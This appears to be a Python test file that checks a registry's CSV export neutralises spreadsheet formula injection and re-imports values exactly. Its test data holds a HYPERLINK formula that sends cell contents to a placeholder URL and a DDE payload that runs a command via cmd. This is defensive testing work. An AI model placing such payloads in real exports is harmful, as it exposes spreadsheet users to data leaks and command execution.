"""Exports are formula-safe and round trips stay exact (exchange/cells.py, docs/exchange-format.md "Formulas")."""

import csv
from pathlib import Path

from tests.integration.test_roundtrip import snapshot, write_world
from tests.principals import person

from endwatch.exchange.cells import FORMULA_START, format_cell, neutralise, restore
from endwatch.services.registry.exports import export_folder
from endwatch.services.registry.imports import import_folder

HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"click")'
HOSTILE_CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_world() -> dict[str, list[list[str]]]:
    parties = [
        ["p0", HOSTILE_NAME, "company", "CA", "", "=1+1", ""],
        # The input follows the convention too: a name starting with a quote is written with two.
        ["p1", "''quoted from the start", "company", "TR", "", "''twice|+plus", "-5"],
        ["p2", "-5", "armed_force", "TR", "", "", "@home"],
    ]
    products = [["g0", "p0", "+model", "", "2-15", "\tstarts with a tab", ""]]
    permits = [["N0", "", "p0", "p1", "p2", "TR", "g0", "3", "", "CAD", "2020-01-10", "2021-01-10", "issued",
                "-surveillance", "yes", HOSTILE_CMD, "", "", "", ""]]
    deliveries = [["N0", "2020-02-01", "=1+2", "p1"]]
    # p1's legal name is the command: the party named after it in the issue text, in a second place.
    parties.append(["p3", HOSTILE_CMD, "other", "", "", "", ""])
    return {"parties.csv": parties, "products.csv": products, "permits.csv": permits,
            "deliveries.csv": deliveries, "status_changes.csv": []}


def cells(folder: Path) -> list[str]:
    found = []
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                found.extend(row)
    return found


def test_neutralise_and_restore_are_exact_inverses():
    for text in ["", "plain", "=1+1", "+1", "-5", "@x", "\tx", "\rx", "\nx", "'", "''", "'=1", "＝1", "a=b"]:
        assert restore(neutralise(text)) == text
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'quote") == "''quote"  # a literal leading quote is escaped too
    assert neutralise("a=b") == "a=b"


def test_numbers_and_dates_stay_typed_text_is_prefixed():
    from datetime import date
    from decimal import Decimal

    assert format_cell(-5) == "-5"
    assert format_cell(Decimal("-1.5")) == "-1.5"
    assert format_cell(date(2020, 1, 2)) == "2020-01-02"
    assert format_cell("-5") == "'-5"
    assert format_cell(("=1+1", "b")) == "'=1+1|b"
    assert format_cell(("b", "=1+1")) == "b|=1+1"  # the cell starts with b: nothing to evaluate


def test_export_is_formula_safe_and_round_trips_exactly(ew, tmp_path):
    write_world(tmp_path / "in", hostile_world())
    import_folder(ew.uow(), person("tester"), tmp_path / "in")
    with ew.reader() as uow:
        stored = {p.id: (p.name, tuple(p.aliases), tuple(p.former_names)) for p in uow.parties.list()}
    assert stored["p0"] == (HOSTILE_NAME, ("=1+1",), ())
    assert stored["p1"] == ("'quoted from the start", ("'twice", "+plus"), ("-5",))

    export_folder(ew.reader(), tmp_path / "one")
    exported = cells(tmp_path / "one")
    assert not [c for c in exported if c and c[0] in FORMULA_START], "a cell a spreadsheet would evaluate"
    assert "'" + HOSTILE_NAME in exported
    assert "'=1+2" in exported  # the serial
    assert "''quoted from the start" in exported
    assert "3" in exported  # the quantity stays a number

    # Importing the export into an empty registry gives back every value unchanged, and exports identically.
    from tests.factories import empty_database

    empty_database(ew)
    import_folder(ew.uow(), person("tester"), tmp_path / "one")  # raises InvalidInput on any problem
    with ew.reader() as uow:
        again = {p.id: (p.name, tuple(p.aliases), tuple(p.former_names)) for p in uow.parties.list()}
        serials = [i.item.serial for i in uow.deliveries.for_permit("N0")]
        product = uow.products.get("g0")
        permit = uow.permits.get("N0")
    assert again == stored
    assert serials == ["=1+2"]
    assert product is not None and product.model == "+model" and product.description == "starts with a tab"
    assert permit is not None and permit.undertaking.signatory == HOSTILE_CMD
    assert permit.undertaking.end_use == "-surveillance"
    export_folder(ew.reader(), tmp_path / "two")
    assert snapshot(tmp_path / "one") == snapshot(tmp_path / "two")
